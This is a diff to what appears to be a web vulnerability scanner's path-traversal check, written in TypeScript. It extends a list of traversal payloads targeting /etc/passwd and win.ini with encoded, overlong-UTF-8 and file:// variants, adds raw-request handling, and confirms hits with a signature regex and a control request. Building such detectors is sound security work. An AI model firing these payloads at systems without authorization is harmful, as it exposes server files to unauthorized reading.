@@ -1,16 +1,27 @@
-import type { InjectionPoint, Outcome, PointCheck, PointProbe } from '#scanner/check-api';
+import type { InjectionPoint, Outcome, PointCheck, PointProbe, ProbeRequest } from '#scanner/check-api';
 
 const telling =
   /file|path|page|doc|template|include|dir|folder|load|read|download|view|content|style|lang|layout|module|pdf|img|image|src/i;
 const up = '../'.repeat(10);
-const payloads = [
+/** Percent-encoded already: bytes that no text has. */
+interface RawPath {
+  readonly raw: string;
+}
+
+const payloads: readonly (string | RawPath)[] = [
   `${up}etc/passwd`,
   '/etc/passwd',
+  'file:///etc/passwd',
   `${'....//'.repeat(10)}etc/passwd`,
   `${'..%2f'.repeat(10)}etc%2fpasswd`,
+  `${'%2e%2e/'.repeat(10)}etc/passwd`,
+  { raw: `${'..%c0%af'.repeat(10)}etc%c0%afpasswd` },
+  `/var/www/html/${up}etc/passwd`,
   `${up}etc/passwd\0.png`,
   `${'..\\'.repeat(10)}windows\\win.ini`,
   'C:\\Windows\\win.ini',
+  'file:///C:/Windows/win.ini',
+  `${'..%5c'.repeat(10)}windows%5cwin.ini`,
 ];
 const signature = /^[^\n]{0,40}root:[^:\n]{0,20}:0:0:[^\n]{0,80}|\[fonts\]\s{0,4}\n|; for 16-bit app support/m;
 
@@ -40,12 +51,14 @@ export const pathTraversal: PointCheck = {
 
 async function tryPaths(point: InjectionPoint, probe: PointProbe): Promise<Outcome | undefined> {
   for (const payload of payloads) {
-    const request = point.request(payload);
+    const requestWith = (change: (path: string) => string): ProbeRequest =>
+      typeof payload === 'string' ? point.request(change(payload)) : point.request(change(payload.raw), { raw: true });
+    const request = requestWith((path) => path);
     const response = await probe.fetch(request);
     if (response === undefined) return undefined;
     const line = signature.exec(response.text)?.[0];
     if (line === undefined) continue;
-    const control = await probe.fetch(point.request(payload.replace(/passwd|win\.ini/, probe.token())));
+    const control = await probe.fetch(requestWith((path) => path.replace(/passwd|win\.ini/, probe.token())));
     if (control === undefined || signature.test(control.text)) return undefined;
     return { url: request.url, evidence: `${point.label}\nresponse: ${line.trim()}` };
   }
